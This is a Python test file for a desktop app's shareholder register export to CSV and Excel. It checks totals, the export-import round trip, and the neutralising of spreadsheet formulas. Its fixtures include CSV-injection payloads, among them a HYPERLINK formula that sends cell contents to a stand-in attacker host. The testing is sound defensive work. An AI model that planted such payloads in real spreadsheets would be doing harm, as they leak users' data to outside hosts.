"""Register export: CSV and Excel as of a date, totals, formula neutralisation, and the round
trip (export the register, import it into a new deal, get the same register back)."""

import csv
import dataclasses
import datetime as dt

import pytest
from openpyxl import load_workbook

from rra_desktop.domain.holdings import register_as_of
from rra_desktop.domain.model import Deal, Holder, PositionEntry, PositionKind
from rra_desktop.exchange.register_export import HEADINGS, export_register, register_table
from rra_desktop.exchange.schedule_import import read_schedule_1, schedule_entries
from rra_desktop.exchange.spreadsheet_safety import neutralise, restore
from rra_desktop.sample import load_sample_deal

CLOSING = dt.date(2003, 5, 7)
EVIL = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "-1+1", "@SUM(A1)", "+44 fund", "\t=1+1")


@pytest.fixture(scope="module")
def sample():
    return load_sample_deal()


def _with_evil_names(deal):
    holders = [Holder(f"h-evil-{i}", name, ("1 Main St",)) for i, name in enumerate(EVIL)]
    rows = [PositionEntry(f"p-evil-{i}", h.id, "D1", PositionKind.ISSUANCE, 100 + i, CLOSING)
            for i, h in enumerate(holders)]
    return dataclasses.replace(deal, holders=deal.holders + tuple(holders), positions=deal.positions + tuple(rows))


def test_table_has_every_holder_and_exact_totals(sample):
    table = register_table(sample, CLOSING)
    assert table.headings == HEADINGS and len(table.rows) == 9
    totals = dict(zip(HEADINGS, table.totals, strict=True))
    assert totals["Holder"] == "Total"
    assert (totals["Series D Preferred"], totals["D-1 Warrants"], totals["D-2 Warrants"]) == (444, 944_681, 944_681)
    assert totals["Placement Agent Warrants"] == 188_936
    registrable = sum(p.registrable for p in register_as_of(sample, CLOSING))
    assert totals["Registrable Securities (as converted)"] == registrable


def test_register_before_closing_is_empty(sample):
    table = register_table(sample, dt.date(2003, 5, 6))
    assert table.rows == () and table.totals[-2] == 0


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_round_trip_into_a_new_deal_gives_the_same_register(tmp_path, sample, suffix):
    deal = _with_evil_names(sample)
    path = export_register(deal, tmp_path / f"register{suffix}", CLOSING)
    schedule = read_schedule_1(path)
    assert schedule.warnings == () and any("totals agree" in n for n in schedule.notes)
    empty = Deal(terms=sample.terms, securities=sample.securities)
    entries = schedule_entries(empty, schedule)
    again = dataclasses.replace(empty, holders=entries.holders, positions=entries.positions)

    def strip_ids(register):  # ids are new; a name's surrounding whitespace is not kept by the import
        return [dataclasses.replace(p, holder_id="", name=" ".join(p.name.split())) for p in register]

    assert strip_ids(register_as_of(again, CLOSING)) == strip_ids(register_as_of(deal, CLOSING))
    by_name = {h.name: h for h in again.holders}
    for name in EVIL:
        assert " ".join(name.split()) in by_name  # came back exactly, apostrophe removed
    xmark = by_name["Xmark Fund Ltd."]
    assert xmark.address_lines == sample.holder("h-xmark-fund").address_lines and xmark.fax == "212-247-1329"


def test_csv_cells_are_neutralised(tmp_path, sample):
    path = export_register(_with_evil_names(sample), tmp_path / "r.csv", CLOSING)
    with path.open(encoding="utf-8-sig", newline="") as f:
        names = [row[0] for row in csv.reader(f)]
    for name in EVIL:
        assert "'" + name in names
    assert not [n for n in names if n.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_xlsx_has_no_formula_and_numbers_are_numbers(tmp_path, sample):
    path = export_register(_with_evil_names(sample), tmp_path / "r.xlsx", CLOSING)
    sheet = load_workbook(path).active  # not data_only: a formula would show as data_type "f"
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [c.value for c in sheet["A"]]
    assert "'" + EVIL[0] in names and "'-1+1" in names
    header = [c.value for c in sheet[2]]
    assert header == list(HEADINGS)
    xmark_row = next(r for r in sheet.iter_rows(min_row=3, values_only=True) if r[0] == "Xmark Fund Ltd.")
    assert xmark_row[HEADINGS.index("D-1 Warrants")] == 285_106 and isinstance(xmark_row[7], int)
    assert isinstance(xmark_row[-1], float)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "plain", "O'Brien"])
def test_neutralise_then_restore_is_the_identity(text):
    assert restore(neutralise(text)) == text
    assert not str(neutralise(text)).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_numbers_are_never_neutralised():
    assert neutralise(-5) == -5 and neutralise(None) is None
